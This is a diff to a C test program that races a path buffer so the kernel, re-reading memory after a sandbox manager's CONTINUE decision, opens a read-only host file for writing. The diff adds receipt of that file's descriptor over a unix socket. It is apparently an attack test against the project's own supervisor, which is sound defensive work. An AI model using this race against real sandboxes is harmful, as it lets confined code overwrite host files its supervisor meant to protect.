@@ -1,9 +1,10 @@
 /* The re-read of CONTINUE: a write-open the manager lets the kernel do, raced to a magic
  * link of a host file.
  *
- * continue_race TRIES SECONDS KERNEL_PATH
+ * continue_race TRIES SECONDS KERNEL_PATH [SOCKET]
  *
- * fd 0 is a host file (read-only). A thread flips a path buffer between KERNEL_PATH, whose
+ * fd 0 is a host file (read-only): the one a host process passes over the unix socket
+ * SOCKET (on a mount marked `sockets`), or stdin. A thread flips a path buffer between KERNEL_PATH, whose
  * write-open the kernel serves (a device node, a procfs file), and /proc/self/fd/0, while
  * the main thread opens the buffer for writing. The manager decides on the first; the
  * kernel, re-reading the memory on CONTINUE, may then open the second. Counters:
@@ -16,7 +17,9 @@
 #include <pthread.h>
 #include <stdatomic.h>
 #include <string.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/un.h>
 #include <unistd.h>
 
 static char buffer[64];
@@ -32,10 +35,25 @@ static void *flip(void *unused) {
     return NULL;
 }
 
+static int receive_fd(const char *path) {
+    int s = socket(AF_UNIX, SOCK_STREAM, 0);
+    struct sockaddr_un a = {.sun_family = AF_UNIX};
+    strncpy(a.sun_path, path, sizeof a.sun_path - 1);
+    char byte, control[CMSG_SPACE(sizeof(int))];
+    struct iovec io = {.iov_base = &byte, .iov_len = 1};
+    struct msghdr m = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
+    if (connect(s, (struct sockaddr *)&a, sizeof a) < 0 || recvmsg(s, &m, 0) < 1 || !CMSG_FIRSTHDR(&m)) exit(3);
+    int fd;
+    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
+    close(s);
+    return fd;
+}
+
 int main(int argc, char **argv) {
     attack_begin(argc, argv);
     if (argc < 4) return 2;
     first = argv[3];
+    if (argc > 4 && dup2(receive_fd(argv[4]), 0) < 0) return 3;
     strcpy(buffer, first);
     struct stat target;
     if (fstat(0, &target) < 0 || !S_ISREG(target.st_mode)) return 3;
